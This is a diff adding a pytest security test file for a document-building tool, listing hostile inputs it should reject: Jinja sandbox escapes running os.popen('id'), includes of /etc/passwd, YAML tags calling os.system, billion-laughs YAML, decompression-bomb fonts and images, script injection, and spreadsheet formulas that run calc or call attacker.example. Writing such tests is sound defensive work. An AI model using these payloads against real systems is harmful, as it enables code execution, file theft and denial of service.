@@ -1,0 +1,129 @@
+"""Ways in that are neither paths nor bombs in Markdown: templates, fonts, editions, workbooks."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zlib
+from pathlib import Path
+
+import pytest
+
+from tests.attacks.arena import BASE, HEAD, SECRET, Attack, Files, section, settings
+from tests.attacks.judge import cases, judge
+
+HOST = "attacker.example"
+TRUST = ("--trust",)
+REPORT = "house/report.html.j2"
+CHART = "::: {.chart data=x.csv}\nT\n:::\n\nText.\n"
+
+
+def house(files: Files, brand: str = "color: {primary: '#123456'}\n") -> Files:
+    """A project with a theme of its own."""
+    return {**settings("theme: house\n"), "house/_brand.yml": brand, **files}
+
+
+def template(text: str) -> Files:
+    """A project whose theme brings its own page."""
+    return house({REPORT: f"<html><body>{text}{{{{ content }}}}</body></html>"})
+
+
+def woff(size: int) -> bytes:
+    """A font whose glyphs are a bomb: one table of zeros, packed."""
+    data = zlib.compress(bytes(size), 9)
+    tables = b"glyf" + struct.pack(">LLLL", 64, len(data), size, 0)
+    head = b"wOFF" + struct.pack(
+        ">LLHHLHHLLLLL", 0x00010000, 64 + len(data), 1, 0, 12 + 16 + size, 1, 0, 0, 0, 0, 0, 0
+    )
+    return (head + tables).ljust(64, b"\0") + data
+
+
+def font(data: bytes, name: str) -> Files:
+    """A project whose theme brings a typeface."""
+    brand = f"typography: {{fonts: [{{family: X, source: file, files: [{name}]}}], base: X}}\n"
+    return house({f"house/{name}": data}, brand)
+
+
+def profile(size: int) -> Files:
+    """A picture with a colour profile that unpacks without end."""
+    from tests.attacks.test_bombs import chunk, picture, png
+
+    return picture("x.png", png(9, 9, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(size), 9))))
+
+
+def gif(width: int, height: int) -> bytes:
+    """A GIF that says it is large, and holds next to nothing."""
+    head = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0\0\0\0\xff\xff\xff"
+    return head + b"," + struct.pack("<HHHH", 0, 0, width, height) + b"\0\x02\x02L\x01\0;"
+
+
+def matrix(axes: int, values: int) -> Files:
+    lines = "".join(
+        f"  a{axis}: [{', '.join(f'{{name: v{axis}x{n}}}' for n in range(values))}]\n"
+        for axis in range(axes)
+    )
+    return settings(f"matrix:\n{lines}")
+
+
+def workbook_words(text: str) -> Files:
+    """A chart whose names of columns and categories are what a spreadsheet would run."""
+    return {**section(CHART), "data/x.csv": f"Year,{text}\n{text},1\nB,2\n"}
+
+
+ATTACKS = [
+    Attack("template of the project", template("a"), "template-untrusted", to="pdf"),
+    Attack("style sheet of the project", house({"house/report.css.j2": f"@import url(http://{HOST}/x.css);"}), "template-untrusted", to="pdf"),
+    Attack("trusted template that asks for Python's inside", template("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that asks by another way", template("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that asks by a filter", template("{{ ''|attr('__class__') }}{{ lipsum.__globals__ }}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that includes a file outside", template("{% include '../../outside/secret.txt' %}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that includes a whole path", template("{% include '/etc/passwd' %}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that repeats without end", template("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"), "limit-reached", to="pdf", options=TRUST, dear=True),
+    Attack("trusted template that makes much", template("{{ 'x' * 10**9 }}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that fills much", template("{{ '%2000000000d' % 1 }}{{ '%2000000000d' % 1 }}{{ '%2000000000d' % 1 }}"), "limit-reached template-error", to="pdf", options=TRUST, dear=True),
+    Attack("trusted template that divides by nothing", template("{{ 1 / 0 }}"), "template-error", to="pdf", options=TRUST),
+    Attack("trusted template that calls itself", house({REPORT: "{% include 'report.html.j2' %}"}), "template-error limit-reached", to="pdf", options=TRUST),
+    Attack("trusted template that fetches", template(f'<img src="http://{HOST}/x.png"><link rel="stylesheet" href="http://{HOST}/x.css">'), "file-missing image-missing layout-warning path-outside template-error text-lost", to="pdf", options=TRUST),
+    Attack("trusted template that reads", template('<img src="file:///etc/passwd"><link rel="attachment" href="file:///etc/passwd">'), "file-missing image-missing layout-warning path-outside template-error text-lost", to="pdf", options=TRUST),
+    Attack("brand file of objects", house({}, "color: !!python/object/apply:os.system ['id']\n"), "yaml-syntax"),
+    Attack("font that is a bomb", lambda: font(woff(1_000_000_000), "x.woff"), "", dear=True),
+    Attack("font that is none", font(b"\0\1\0\0" + b"\xff" * 400, "x.ttf"), ""),
+    Attack("font of 1 GB", font(b"", "x.ttf"), "", prepare=lambda project, outside: large(project / "house" / "x.ttf")),
+    Attack("profile that is a bomb", lambda: profile(800_000_000), "", to="pdf,docx", dear=True),
+    Attack("GIF of 4,000 million pixels", {**section("![A curve](images/x.gif)\n"), "images/x.gif": gif(65_535, 65_535)}, "image-unreadable"),
+    Attack("picture that is a program", {**section("![A curve](images/x.png)\n"), "images/x.png": b"%!PS\n(/etc/passwd) (r) file\n"}, "image-unreadable"),
+    Attack("picture that is a web page", {**section("![A curve](images/x.svg)\n"), "images/x.svg": "<html><body><script>alert(1)</script></body></html>"}, "image-unreadable"),
+    Attack("section by an include", section("{{< include ../outside/secret.md >}}\n"), "shortcode-unknown variable-undefined bracket-unclosed"),
+    Attack("front matter that names files", {"sections/01-one.md": "---\ntitle: One\ninclude: ../outside/secret.md\nbibliography: ../outside/secret.yml\n---\n\nText.\n"}, "key-unknown"),
+    Attack("front matter that makes objects", {"sections/01-one.md": "---\ntitle: !!python/name:os.system\n---\n\nText.\n"}, "yaml-syntax"),
+    Attack("front matter that laughs", lambda: {"sections/01-one.md": "---\ntitle: One\n" + "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 40)) + "---\n\nText.\n"}, "yaml-syntax key-unknown"),
+    Attack("a hundred million editions", matrix(8, 10), "edition-invalid"),
+    Attack("edition with a path for a name", settings("editions:\n  '../../outside/x': {language: de}\n"), "edition-invalid value-invalid key-unknown"),
+    Attack("variable that swells", lambda: {**settings(f"variables: {{a: '{'x ' * 50_000}'}}\n"), **section("{{< var a >}} " * 3000 + "\n")}, "limit-reached", dear=True),
+    Attack("name of the outputs with dots", {"briefing.yml": 'title: T\nname: ../outside/x\nsections: ["sections/*.md"]\n'}, "key-unknown value-invalid"),
+    Attack("workbook that calls a program", workbook_words("=cmd|' /C calc'!A0"), "", to="docx,pptx", hides=("<f>", "<f ")),
+    Attack("workbook that asks the web", workbook_words(f"=WEBSERVICE(\"http://{HOST}/\")".replace('"', "'")), "", to="docx,pptx", hides=("<f>", "<f ")),
+    Attack("workbook with a link", workbook_words(f"http://{HOST}/x"), "", to="docx,pptx", hides=("<hyperlink", "relationships/hyperlink")),
+    Attack("HTML that is a form", section("<form action='http://attacker.example'><input name=a></form>\n"), "", to="pdf,html", shows=("<form",)),
+    Attack("HTML in the page for the web", section("a <script>alert(1)</script> <img src=x onerror=alert(1)> b\n\n[c](javascript:alert(1))\n"), "", to="html", hides=("<script>alert(1)", "<img src=x", 'href="javascript:')),
+    Attack("HTML in a title on the web", {**settings("subtitle: '</title><script>alert(1)</script>'\n"), **section("x\n")}, "", to="html", hides=("<script>alert(1)",)),
+    Attack("data that ends a program on the web", {**section(CHART), "data/x.csv": "Year,</script><script>alert(1)</script>\n2007,1\n2008,2\n"}, "", to="html", hides=("<script>alert(1)",)),
+    Attack("CSV that is a web page in a table", section("|a|b|\n|-|-|\n|<script>alert(1)</script>|=1+1|\n"), "", to="html", hides=("<script>alert(1)",)),
+]  # fmt: skip
+
+
+def large(path: Path) -> None:
+    """Make a file of 1 GB that takes no room."""
+    with path.open("wb") as file:
+        file.truncate(1_000_000_000)
+
+
+@pytest.mark.parametrize("attack", cases(ATTACKS, 12), ids=str)
+def test_no_other_way_leads_in(attack: Attack, tmp_path: Path) -> None:
+    judge(attack, tmp_path)
+
+
+def test_the_hostile_font_is_a_font_by_its_head() -> None:
+    assert woff(10_000)[:4] == b"wOFF"
+    assert gif(9, 9).startswith(b"GIF89a") and io.BytesIO(gif(9, 9))
+    assert SECRET not in str(BASE) + HEAD
